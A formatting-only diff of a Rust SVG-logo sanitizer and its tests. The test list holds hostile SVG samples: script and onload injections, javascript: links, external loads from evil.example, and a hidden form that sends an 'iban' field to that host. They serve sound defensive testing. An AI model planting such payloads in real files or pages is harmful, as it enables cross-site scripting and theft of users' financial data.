@@ -197,14 +197,22 @@ pub fn check_svg(text: &str) -> Result<(), LogoError> {
     let external_url = |value: &str| {
         let lower = value.to_ascii_lowercase();
         lower.contains("@import")
-            || lower
-                .match_indices("url(")
-                .any(|(at, _)| !lower[at + 4..].trim_start_matches(['\'', '"', ' ']).starts_with('#'))
+            || lower.match_indices("url(").any(|(at, _)| {
+                !lower[at + 4..]
+                    .trim_start_matches(['\'', '"', ' '])
+                    .starts_with('#')
+            })
     };
     for node in document.descendants() {
-        if node.is_text() && node.parent_element().is_some_and(|p| p.tag_name().name() == "style") {
+        if node.is_text()
+            && node
+                .parent_element()
+                .is_some_and(|p| p.tag_name().name() == "style")
+        {
             if node.text().is_some_and(external_url) {
-                return Err(LogoError::UnsafeSvg("a style that loads from elsewhere".into()));
+                return Err(LogoError::UnsafeSvg(
+                    "a style that loads from elsewhere".into(),
+                ));
             }
             continue;
         }
@@ -212,7 +220,10 @@ pub fn check_svg(text: &str) -> Result<(), LogoError> {
             continue;
         }
         let name = node.tag_name().name();
-        if FORBIDDEN_SVG_ELEMENTS.iter().any(|f| f.eq_ignore_ascii_case(name)) {
+        if FORBIDDEN_SVG_ELEMENTS
+            .iter()
+            .any(|f| f.eq_ignore_ascii_case(name))
+        {
             return Err(LogoError::UnsafeSvg(format!("a <{name}> element")));
         }
         for attribute in node.attributes() {
@@ -509,25 +520,49 @@ mod tests {
     #[test]
     fn svg_logos_that_could_act_are_refused() {
         let refused = [
-            (r#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#, "<script>"),
+            (
+                r#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#,
+                "<script>",
+            ),
             (
                 r#"<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form action="https://evil.example"><input name="iban"/></form></foreignObject></svg>"#,
                 "<foreignObject>",
             ),
-            (r#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('x')"/>"#, "onload"),
+            (
+                r#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('x')"/>"#,
+                "onload",
+            ),
             (
                 r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/x.png"/></svg>"#,
                 "reference out of the logo",
             ),
-            (r#"<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect/></a></svg>"#, "reference out"),
-            (r#"<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example/t)"/></svg>"#, "url()"),
-            (r#"<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/a.css);</style></svg>"#, "elsewhere"),
-            (r#"<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:alert(1)"/></svg>"#, "<set>"),
-            (r#"<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>"#, "DTD"),
+            (
+                r#"<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect/></a></svg>"#,
+                "reference out",
+            ),
+            (
+                r#"<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example/t)"/></svg>"#,
+                "url()",
+            ),
+            (
+                r#"<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/a.css);</style></svg>"#,
+                "elsewhere",
+            ),
+            (
+                r#"<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:alert(1)"/></svg>"#,
+                "<set>",
+            ),
+            (
+                r#"<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>"#,
+                "DTD",
+            ),
         ];
         for (svg, named) in refused {
             let error = check_svg(svg).expect_err(svg).to_string();
-            assert!(error.contains(named) || (named == "DTD" && error.contains("not well-formed")), "{svg}: {error}");
+            assert!(
+                error.contains(named) || (named == "DTD" && error.contains("not well-formed")),
+                "{svg}: {error}"
+            );
         }
         let fine = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><linearGradient id="g"/></defs><style>rect{fill:url(#g)}</style><rect width="10" height="10" fill="url(#g)"/><use href="#g"/></svg>"##;
         check_svg(fine).expect("a plain logo with internal references");
